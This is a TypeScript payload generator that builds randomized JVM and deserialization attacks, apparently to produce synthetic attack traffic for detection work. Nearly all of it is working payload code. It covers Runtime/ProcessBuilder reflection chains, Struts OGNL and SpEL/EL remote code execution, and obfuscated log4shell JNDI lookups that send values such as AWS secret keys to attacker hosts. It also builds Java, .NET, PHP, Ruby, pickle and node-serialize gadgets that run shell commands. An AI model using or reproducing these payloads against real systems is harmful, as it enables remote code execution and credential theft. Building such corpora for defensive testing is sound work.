/**
 * JVM attacks: reflection to reach Runtime/ProcessBuilder, OGNL (Struts), SpEL / EL / MVEL
 * expressions, JNDI lookups with the nesting and lookup obfuscations log4shell exploitation used,
 * and serialized-object markers (raw, base64, hex, gzip) across Java, .NET, PHP, Python, Ruby, Node.
 */
import { gzipSync } from 'node:zlib';
import type { AttackFamily } from './family.js';
import { attackerHost, attackerIp, attackerUrl, base64, int, maybe, percentEncode, pick, unixCommand, type Random } from './grammar.js';

function javaCommand(random: Random): string {
  return pick(['id', 'whoami', 'calc', 'touch /tmp/x', `curl ${attackerHost(random)}`, `nslookup ${attackerHost(random)}`, 'cat /etc/passwd', 'uname -a'], random);
}

const EXEC_CHAINS = [
  (c: string) => `java.lang.Runtime.getRuntime().exec("${c}")`,
  (c: string) => `Runtime.getRuntime().exec('${c}')`,
  (c: string) => `new java.lang.ProcessBuilder({"/bin/sh","-c","${c}"}).start()`,
  (c: string) => `new ProcessBuilder("${c}").start()`,
  (c: string) => `Class.forName("java.lang.Runtime").getMethod("exec",String.class).invoke(Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null),"${c}")`,
  (c: string) => `java.lang.Class.forName('java.lang.Runtime').getDeclaredMethods()[7].invoke(null).exec('${c}')`,
  (c: string) => `new javax.script.ScriptEngineManager().getEngineByName("js").eval("java.lang.Runtime.getRuntime().exec('${c}')")`,
  (c: string) => `java.lang.System.getProperty("user.dir")+"${c}"`,
];

/** The start of a Java class file (magic, version, a constant pool), base64'd: a TemplatesImpl gadget's bytecode. */
function classFileBase64(random: Random): string {
  const body = Buffer.alloc(int(random, 12, 40));
  for (let i = 0; i < body.length; i++) body[i] = int(random, 0, 255);
  return Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, pick([0x32, 0x33, 0x34, 0x37], random), 0x00, int(random, 16, 90)]), body]).toString('base64');
}

function jvmReflection(random: Random): string {
  const c = javaCommand(random);
  switch (int(random, 0, 5)) {
    case 0:
    case 1:
      return pick(EXEC_CHAINS, random)(c);
    case 2:
      return JSON.stringify(pick([
        ['com.sun.rowset.JdbcRowSetImpl', { dataSourceName: `ldap://${attackerHost(random)}:1389/Exploit`, autoCommit: true }],
        { '@type': 'com.sun.rowset.JdbcRowSetImpl', dataSourceName: `rmi://${attackerIp(random)}:1099/Obj`, autoCommit: true },
        { '@type': 'java.lang.AutoCloseable', '@type2': pick(['org.apache.commons.io.input.BOMInputStream', 'org.apache.commons.io.input.XmlStreamReader', 'java.io.FileOutputStream', 'org.eclipse.core.internal.localstore.SafeFileOutputStream'], random), ...(random() < 0.5 ? { file: pick(['/tmp/x', '/etc/passwd', 'C:/Windows/win.ini'], random) } : {}) },
        { '@type': 'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl', _bytecodes: [classFileBase64(random)], _name: pick(['a', 'x', 'Pwn', `E${int(random, 0, 999)}`], random), _tfactory: {}, ...(random() < 0.5 ? { _outputProperties: {} } : {}) },
        ['org.springframework.context.support.ClassPathXmlApplicationContext', `${attackerUrl(random)}spel.xml`],
        { '@class': 'ch.qos.logback.core.db.DriverManagerConnectionSource', url: `jdbc:h2:mem:;INIT=RUNSCRIPT FROM '${attackerUrl(random)}x.sql'` },
      ], random));
    case 3: {
      // A bare gadget class name, as a type field, a JVM descriptor or a reflective lookup writes it.
      const [open, close] = pick([['', ''], ['', ''], ['L', ';'], ['Class.forName("', '")'], ['x=', '']] as const, random);
      return open + pick([
        'org.apache.commons.collections.functors.InvokerTransformer',
        'org.apache.commons.collections4.functors.InstantiateTransformer',
        'org.codehaus.groovy.runtime.MethodClosure',
        'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl',
        'org.springframework.beans.factory.ObjectFactory',
        'java.net.URLClassLoader',
        'javax.management.BadAttributeValueExpException',
        'sun.reflect.annotation.AnnotationInvocationHandler',
        'org.hibernate.jmx.StatisticsService',
      ], random).replace(/\./g, open === 'L' ? '/' : '.') + close + maybe(random, 0.5, `#${pick(['transform', 'exec', 'newTransformer', 'getObject'], random)}`);
    }
    case 4:
      return `${pick(['class', 'Class', 'x'], random)}.${pick(['module.classLoader.resources.context.parent.pipeline.first.pattern', 'classLoader.URLs[0]', 'module.classLoader.DefaultAssertionStatus', 'forName("java.lang.Runtime")'], random)}=${pick(['%{c2}i', 'jar:' + attackerUrl(random) + 'x.jar!/', 'true', 'x'], random)}`;
    default:
      return `{"${pick(['$type', 'type', '@type', 'class', 'javaClass'], random)}":"${pick(['java.lang.ProcessBuilder', 'java.lang.Runtime', 'javax.naming.InitialContext', 'java.net.URL', 'org.apache.xbean.propertyeditor.JndiConverter'], random)}"${maybe(random, 0.6, `,"${pick(['command', 'asText', 'val'], random)}":"${c}"`)}}`;
  }
}

function ognl(random: Random): string {
  const c = javaCommand(random);
  const access = pick([
    "(#_memberAccess['allowStaticMethodAccess']=true)",
    '(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)',
    "(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear())))",
    "(#context['xwork.MethodAccessor.denyMethodExecution']=false)",
    '(#context.setMemberAccess(@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS))',
  ], random);
  const w = pick(['w', 'o', 'r', 'out'], random);
  const exec = pick([
    `(@java.lang.Runtime@getRuntime().exec('${c}'))`,
    `(#cmd='${c}').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())`,
    `(#${w}=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse').getWriter()).(#${w}.print(@java.lang.System@getProperty('${pick(['user.dir', 'user.name', 'os.name', 'java.version', 'user.home'], random)}'))).(#${w}.close())`,
    `(@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('${c}').getInputStream()))`,
  ], random);
  const body = `${access}.${exec}`;
  switch (int(random, 0, 4)) {
    case 0:
      return `%{${body}}`;
    case 1:
      return `\${${body}}`;
    case 2:
      return `${pick(['redirect:', 'action:', 'redirectAction:'], random)}\${${exec}}`;
    case 3:
      return `%{(#_='multipart/form-data').${body}}`;
    default:
      return `(${pick(['#a', '#x', '#o'], random)}=${exec})(${pick(['a', 'x', 'o'], random)})(${pick(['b', 'y'], random)})`;
  }
}

function expressionLanguage(random: Random): string {
  // Any recon or payload command, not only the eight javaCommand knows: a fixed list made each
  // expression with it come back 5-9 times per 300 draws.
  const c = random() < 0.6 ? unixCommand(random) : javaCommand(random);
  const chain = pick(EXEC_CHAINS, random)(c);
  switch (int(random, 0, 7)) {
    case 0:
      return `\${T(java.lang.Runtime).getRuntime().exec('${c}')}`;
    case 1:
      return `${pick(['#', '*', '$', '@'], random)}{T(${pick(['java.lang.Runtime', 'java.lang.System', 'org.springframework.util.StreamUtils', 'java.lang.ProcessBuilder'], random)})${pick([`.getRuntime().exec("${c}")`, '.getenv()', `.copyToByteArray(T(java.lang.Runtime).getRuntime().exec("${c}").getInputStream())`, '.getProperty("user.home")'], random)}}`;
    case 2:
      return `\${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'${c}')}`;
    case 3: {
      // A bare scope or implicit-object lookup: the probe that shows an expression is evaluated.
      const attr = pick(['user', 'admin', 'token', 'role', 'a', 'x', 'secret', 'csrf', `k${int(random, 0, 99)}`], random);
      return `\${${pick([
        `pageContext.request.getSession().setAttribute("${attr}",${pick(['1', 'true', `"${attr}"`], random)})`,
        pick(['applicationScope', 'sessionScope', 'requestScope'], random) + pick(['', `.${attr}`, `['${attr}']`], random),
        `${pick(['header', 'cookie', 'param', 'headerValues'], random)}[${pick(['"', "'"], random)}${pick(['cookie', 'Authorization', 'JSESSIONID', 'User-Agent', attr], random)}${pick(['"', "'"], random)}]${maybe(random, 0.3, '.value')}`,
        `pageContext.servletContext.${pick(['getResource', 'getRealPath', 'getResourcePaths'], random)}("${pick(['/', '/WEB-INF/web.xml', '/WEB-INF/', '.'], random)}")`,
        `${pick(['initParam', 'pageContext.servletContext.serverInfo', 'pageContext.request.serverName'], random)}`,
      ], random)}}`;
    }
    case 4:
      return `#{${pick([
        `${pick(['request', 'session', 'application', 'facesContext'], random)}.getClass()${pick(['.getClassLoader()', '.getProtectionDomain()', '.forName("java.lang.Runtime")'], random)}`,
        `facesContext.externalContext.${pick(['sessionMap', 'requestMap', 'applicationMap', 'requestParameterMap', 'requestHeaderMap', 'requestCookieMap', 'initParameterMap'], random)}${maybe(random, 0.7, `['${pick(['user', 'a', 'token', 'role', 'cookie', 'x', 'admin', `p${int(random, 0, 99)}`], random)}']`)}`,
        `"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("${pick(['js', 'JavaScript', 'nashorn'], random)}").eval("${chain.replace(/"/g, "'")}")`,
      ], random)}}`;
    case 5:
      return `@{${chain}}`;
    case 6:
      return `${pick(['', 'x'], random)}\${${pick(['new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("' + c + '").getInputStream()).next()', `#this.getClass().forName("${pick(['java.lang.Runtime', 'java.lang.ProcessBuilder', 'java.lang.System', 'javax.script.ScriptEngineManager'], random)}")`, '(new java.lang.ProcessBuilder(new String[]{"' + c + '"})).start()'], random)}}`;
    default:
      return `${pick(['orderBy', 'sort', 'x'], random)}=${pick(['T(java.lang.Runtime).getRuntime().exec("' + c + '")', 'new java.lang.ProcessBuilder("' + c + '").start()'], random)}`;
  }
}

/** Writes `jndi` (or any word) as log4j lookups that evaluate to it. */
function lookupSpell(word: string, random: Random): string {
  return [...word]
    .map((ch) =>
      random() < 0.5
        ? ch
        : pick([
            `\${lower:${ch}}`, `\${upper:${ch}}`, `\${::-${ch}}`, `\${env:${pick(['NaN', 'X', 'BARFOO', 'ENV_NAME'], random)}:-${ch}}`,
            `\${date:'${ch}'}`, `\${k8s:${pick(['k5', 'x'], random)}:-${ch}}`, `\${sys:${pick(['x', 'nope'], random)}:-${ch}}`, `\${${pick(['', 'a', 'xx'], random)}:-${ch}}`,
          ], random),
    )
    .join('');
}

function jndi(random: Random): string {
  const proto = pick(['ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'corba', 'nds', 'nis', 'http'], random);
  const exfil = pick(['', '', '${sys:java.version}.', '${env:USER}.', '${hostName}.', '${env:AWS_SECRET_ACCESS_KEY}.', '${java:os}.', '${ctx:loginId}.'], random);
  const host = `${exfil}${random() < 0.7 ? attackerHost(random) : `${attackerIp(random)}:${pick(['1389', '1099', '389', '53'], random)}`}`;
  const spelled = random() < 0.6 ? lookupSpell('jndi', random) : pick(['jndi', 'JNDI', 'jNdI'], random);
  const colon = random() < 0.25 ? pick(['${::-:}', '${lower::}'], random) : ':';
  const protoSpelled = random() < 0.3 ? lookupSpell(proto, random) : proto;
  const core = `\${${spelled}${colon}${protoSpelled}://${host}/${pick(['a', 'Exploit', 'o=reference', 'x', `${int(random, 1, 99999)}`], random)}}`;
  switch (int(random, 0, 5)) {
    case 0:
      return percentEncode(core, random);
    case 1:
      return core.replace(/\$/g, '\\u0024').replace(/\{/g, pick(['{', '\\u007b'], random));
    case 2:
      return `${pick(['Mozilla/5.0 ', 'x', 'test', 'admin', ''], random)}${core}`;
    case 3:
      return `\${${pick(['${::-$}', '$'], random)}{${spelled}:${proto}://${host}/a}}`.replace('${${::-$}{', '${::-$}{');
    default:
      return core;
  }
}

/** Gadget classes a serialized Java payload names first (the chain's entry object). */
const JAVA_GADGET_CLASSES = [
  'java.util.PriorityQueue', 'java.util.HashMap', 'java.util.HashSet', 'sun.reflect.annotation.AnnotationInvocationHandler',
  'javax.management.BadAttributeValueExpException', 'org.apache.commons.collections.functors.InvokerTransformer',
  'org.apache.commons.collections4.comparators.TransformingComparator', 'com.sun.rowset.JdbcRowSetImpl',
];

/** The first bytes of a Java object stream: magic, a class descriptor (name, serialVersionUID, flags) and a field. */
function javaObjectStream(random: Random): Buffer {
  const name = Buffer.from(pick(JAVA_GADGET_CLASSES, random), 'latin1');
  const uid = Buffer.alloc(8);
  for (let i = 0; i < 8; i++) uid[i] = int(random, 0, 255);
  const field = Buffer.from(pick(['comparator', 'loadFactor', 'iMethodName', 'val', 'memberValues'], random), 'latin1');
  return Buffer.concat([
    Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0x00, name.length]), name, uid,
    Buffer.from([0x02, 0x00, 0x01, 0x4c, 0x00, field.length]), field,
    Buffer.from([0x74, 0x00, 0x16]), Buffer.from('Ljava/util/Comparator;', 'latin1'), Buffer.from([0x78, 0x70]),
  ]);
}

/** A Python pickle (protocol 4, one frame) that calls `module.function(argument)` when loaded. */
function pickleStream(random: Random): Buffer {
  const [module, fn] = pick([['posix', 'system'], ['os', 'system'], ['nt', 'system'], ['subprocess', 'check_output'], ['subprocess', 'getoutput'], ['os', 'popen'], ['builtins', 'eval'], ['builtins', 'exec']], random);
  const arg = fn === 'eval' || fn === 'exec' ? `__import__('os').system('${javaCommand(random)}')` : unixCommand(random);
  const short = (text: string): Buffer => {
    const b = Buffer.from(text, 'utf8');
    return b.length < 256 ? Buffer.concat([Buffer.from([0x8c, b.length]), b, Buffer.from([0x94])]) : Buffer.concat([Buffer.from([0x8d]), u32(b.length), Buffer.alloc(4), b, Buffer.from([0x94])]);
  };
  const body = Buffer.concat([short(module), short(fn), Buffer.from([0x93, 0x94]), short(arg), Buffer.from([0x85, 0x94, 0x52, 0x94, 0x2e])]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32LE(body.length, 0);
  return Buffer.concat([Buffer.from([0x80, 0x04, 0x95]), frame, body]);
}

function u32(n: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n, 0);
  return b;
}

/** A .NET BinaryFormatter length-prefixed string (7-bit encoded length). */
function dotnetString(text: string): Buffer {
  const b = Buffer.from(text, 'utf8');
  const len: number[] = [];
  let n = b.length;
  do {
    len.push((n & 0x7f) | (n > 0x7f ? 0x80 : 0));
    n >>= 7;
  } while (n > 0);
  return Buffer.concat([Buffer.from(len), b]);
}

const DOTNET_GADGETS: readonly [string, string][] = [
  ['System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089', 'System.Collections.Generic.SortedSet`1[[System.String, mscorlib]]'],
  ['PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35', 'System.Windows.Data.ObjectDataProvider'],
  ['System.Windows.Forms, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089', 'System.Windows.Forms.AxHost+State'],
  ['Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35', 'Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties'],
  ['System.Data, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089', 'System.Data.DataSet'],
  ['mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089', 'System.Security.Claims.ClaimsIdentity'],
  ['System.IdentityModel, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089', 'System.IdentityModel.Tokens.SessionSecurityToken'],
];

/** The first records of a .NET BinaryFormatter stream: header, the gadget's library, its class and members. */
function dotnetBinaryFormatter(random: Random): Buffer {
  const [library, type] = pick(DOTNET_GADGETS, random);
  const members = pick([['Comparer', 'Count', 'Version', 'Items'], ['ObjectInstance', 'MethodName', 'MethodParameters'], ['PropertyBagBinary'], ['ForegroundBrush'], ['XmlSchema', 'XmlDiffGram'], ['m_serializedClaims', 'm_label'], ['SessionToken']], random);
  return Buffer.concat([
    Buffer.from([0x00]), u32(1), Buffer.from([0xff, 0xff, 0xff, 0xff]), u32(1), u32(0),
    Buffer.from([0x0c]), u32(2), dotnetString(library),
    Buffer.from([0x05]), u32(1), dotnetString(type), u32(members.length), ...members.map(dotnetString),
    Buffer.from(members.map(() => pick([0x01, 0x02, 0x04, 0x00], random))),
  ]);
}

/** A Ruby Marshal stream (4.8) of a gadget object: `Marshal.load` instantiates the class and its ivars. */
function rubyMarshal(random: Random): Buffer {
  const cls = Buffer.from(pick(['Gem::Installer', 'Gem::Requirement', 'Gem::SpecFetcher', 'Gem::Package::TarReader', 'ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy', 'ERB', 'Net::BufferedIO', 'Gem::StubSpecification'], random), 'latin1');
  const ivar = Buffer.from(pick(['@i', '@io', '@requirements', '@src', '@loaded_from', '@method', '@instance'], random), 'latin1');
  const value = Buffer.from(pick([`|${unixCommand(random)}`, `system('${javaCommand(random)}')`, `\`${javaCommand(random)}\``], random), 'latin1');
  const fix = (n: number): number => n + 5;
  return Buffer.concat([Buffer.from([0x04, 0x08, 0x6f, 0x3a, fix(cls.length)]), cls, Buffer.from([0x06, 0x3a, fix(ivar.length)]), ivar, Buffer.from([0x49, 0x22, fix(value.length)]), value, Buffer.from([0x06, 0x3a, 0x06, 0x45, 0x54])]);
}

/**
 * A serialized object compressed and base64'd, as `ysoserial … | gzip | base64` writes it and as
 * apps that keep compressed state in a parameter or cookie receive it: Java, a Python pickle calling
 * os.system, or a PHP object.
 */
function gzippedSerializedObject(random: Random): string {
  const payload = pick([
    () => javaObjectStream(random),
    () => pickleStream(random),
    () => Buffer.from(`O:${int(random, 4, 30)}:"${pick(['Monolog\\Handler\\SyslogUdpHandler', 'GuzzleHttp\\Psr7\\FnStream', 'Illuminate\\Broadcasting\\PendingBroadcast'], random)}":1:{s:6:"events";O:${int(random, 4, 30)}:"${pick(['Illuminate\\Events\\Dispatcher', 'Faker\\Generator'], random)}":1:{s:12:"\u0000*\u0000listeners";a:1:{s:${int(random, 2, 9)}:"${javaCommand(random)}";a:1:{i:0;s:6:"system";}}}}`, 'latin1'),
  ], random)();
  return gzipSync(payload).toString('base64');
}

/**
 * Serialized objects as a deserializing endpoint receives them. The binary formats are built, not
 * quoted: each draw serializes its own gadget class, fields and command, so only the format's magic
 * repeats between draws (as in real exploits), never a whole string.
 */
function serializedObject(random: Random): string {
  switch (int(random, 0, 9)) {
    case 0:
      return javaObjectStream(random).toString('base64');
    case 1: {
      const h = javaObjectStream(random).toString('hex');
      return (random() < 0.5 ? h : h.toUpperCase()).slice(0, int(random, 24, h.length));
    }
    case 2:
      return gzippedSerializedObject(random);
    case 3:
      return dotnetBinaryFormatter(random).toString('base64');
    case 4:
      return JSON.stringify({ $type: `${pick(['System.Windows.Data.ObjectDataProvider', 'System.Configuration.Install.AssemblyInstaller', 'System.Activities.Presentation.WorkflowDesigner'], random)}, ${pick(['PresentationFramework', 'System.Configuration.Install'], random)}`, MethodName: 'Start', MethodParameters: { $type: 'System.Collections.ArrayList, mscorlib', $values: ['cmd', `/c ${javaCommand(random)}`] } });
    case 5:
      return pick([
        `O:${int(random, 4, 30)}:"${pick(['Monolog\\Handler\\SyslogUdpHandler', 'GuzzleHttp\\Psr7\\FnStream', 'Illuminate\\Broadcasting\\PendingBroadcast', 'stdClass', 'App\\Models\\User'], random)}":${int(random, 1, 4)}:{s:${int(random, 1, 9)}:"${pick(['socket', 'events', '_fn_close', 'x'], random)}";${pick(['O:', 's:2:"id";', 'i:1;', 'a:1:{'], random)}`,
        `a:${int(random, 1, 3)}:{i:0;O:${int(random, 4, 30)}:"${pick(['Requests_Utility_FilteredIterator', 'Swift_ByteStream_TemporaryFileByteStream'], random)}":1:{`,
        `C:${int(random, 10, 40)}:"${pick(['ArrayObject', 'SplObjectStorage'], random)}":${int(random, 10, 99)}:{x:i:0;`,
      ], random);
    case 6:
      return pick([
        () => pickleStream(random).toString('base64'),
        () => `c${pick(['os', 'posix', 'subprocess'], random)}\n${pick(['system', 'popen'], random)}\n(S'${unixCommand(random)}'\ntR.`,
        () => `c${pick(['__builtin__', 'builtins'], random)}\n${pick(['eval', 'exec'], random)}\n(V__import__(${pick(["'os'", "'subprocess'"], random)}).${pick(['system', 'popen', 'getoutput'], random)}('${unixCommand(random)}')\ntR.`,
        () => `!!python/object/${pick(['apply', 'new'], random)}:${pick(['os.system', 'subprocess.check_output', 'os.popen', 'subprocess.Popen'], random)} ['${javaCommand(random)}']`,
      ], random)();
    case 7:
      return pick([
        () => rubyMarshal(random).toString('base64'),
        () => `--- !ruby/object:${pick(['Gem::Installer', 'Gem::Requirement', 'Gem::SpecFetcher', 'Gem::Package::TarReader'], random)}\n${pick(['i', 'io', 'requirements', 'spec'], random)}: ${pick(['x', `"|${javaCommand(random)}"`, '!ruby/object:Gem::Package::TarReader'], random)}\n`,
        () => `!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n? ! "${pick(['foo', 'x', 'a'], random)}; system('${javaCommand(random)}')"`,
      ], random)();
    case 8: {
      const fn = pick([
        (c: string) => `function(){require('child_process').exec('${c}',function(e,o){console.log(o)})}()`,
        (c: string) => `function(){require('child_process').execSync('${c}')}()`,
        (c: string) => `function(){return process.mainModule.require('child_process').spawn('sh',['-c','${c}'])}()`,
      ], random);
      return JSON.stringify({ [pick(['rce', 'username', 'profile', 'data', 'user', 'session'], random)]: `_$$ND_FUNC$$_${fn(javaCommand(random))}` });
    }
    default:
      return `${pick(['viewstate', '__VIEWSTATE', 'token', 'data'], random)}=${pick(['/wEy', '/wEPDw'], random)}${base64(`System.Diagnostics.Process ${javaCommand(random)}`)}`;
  }
}

export const JVM_FAMILIES: readonly AttackFamily[] = [
  { name: 'jvm-reflection', category: 'code-injection', places: ['json', 'query', 'form'], make: jvmReflection },
  { name: 'ognl', category: 'ssti', places: ['query', 'header', 'form', 'query-name'], make: ognl },
  { name: 'spel-el-mvel', category: 'ssti', places: ['query', 'json', 'form'], make: expressionLanguage },
  { name: 'jndi-log4shell', category: 'jndi', places: ['header', 'query', 'json', 'form', 'cookie'], make: jndi },
  { name: 'serialized-object', category: 'deserialization', places: ['json', 'form', 'cookie', 'query'], make: serializedObject },
];
